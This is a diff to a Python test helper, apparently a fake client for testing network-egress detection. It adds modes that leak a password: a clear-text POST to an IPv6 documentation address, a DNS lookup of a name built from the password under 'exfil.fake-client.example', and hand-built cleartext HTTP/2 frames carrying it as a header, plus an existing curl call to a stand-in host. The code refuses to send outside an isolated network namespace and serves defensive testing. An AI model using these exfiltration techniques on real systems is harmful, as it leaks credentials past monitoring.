@@ -191,6 +191,36 @@ def leak():
         import subprocess
         subprocess.run(["curl", "--silent", "--http2-prior-knowledge", "--max-time", "3", "--header", f"X-Api-Key: {PASSWORD}",
                         "--output", "/dev/null", "http://metrics.fake-client.example/v1/ping"], check=False)
+    elif MODE in ("ipv6-address", "dns-secret", "h2c-split"):
+        # Only inside the suite's network namespace: ipv6-address posts the password in clear to
+        # an IPv6 documentation address (2001:db8::/32) where the namespace makes IPv6 local;
+        # dns-secret looks up a name made of it; h2c-split speaks HTTP/2 in clear as Go does (the
+        # preface and SETTINGS, then, once the server's SETTINGS came, HEADERS with the password
+        # as a literal header value).
+        if open("/proc/self/net/dev").read().count(":") != 1:
+            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
+            sys.exit(3)
+        body = json.dumps({"user": USER, "password": PASSWORD}).encode()
+        try:
+            if MODE == "ipv6-address":
+                with socket.create_connection(("2001:db8::7", 80), timeout=5) as sock:
+                    exchange(sock, f"POST /v6 HTTP/1.1\r\nHost: [2001:db8::7]\r\nContent-Length: {len(body)}\r\n\r\n", body)
+            elif MODE == "dns-secret":
+                try:
+                    socket.getaddrinfo(f"{PASSWORD}.exfil.fake-client.example", 443)
+                except OSError:
+                    pass
+            else:
+                with socket.create_connection(("127.0.0.9", 8080), timeout=5) as sock:
+                    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
+                    sock.recv(100)  # the server's SETTINGS
+                    def literal(name, value):
+                        return bytes([0x00, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+                    block = bytes([0x83, 0x84, 0x86]) + literal(":authority", "127.0.0.9") + literal("x-token", PASSWORD)
+                    sock.sendall(bytes([0, 0, len(block), 1, 5, 0, 0, 0, 1]) + block)
+                    sock.recv(100)
+        except (OSError, ssl.SSLError) as error:
+            print(f"fake-client: {error}", file=sys.stderr)
     elif MODE in ("own-name", "other-port", "udp-datagram"):
         # Only inside the suite's network namespace (nothing but loopback there; the suite's name
         # server answers every name): own-name looks up a name of its own and posts the password
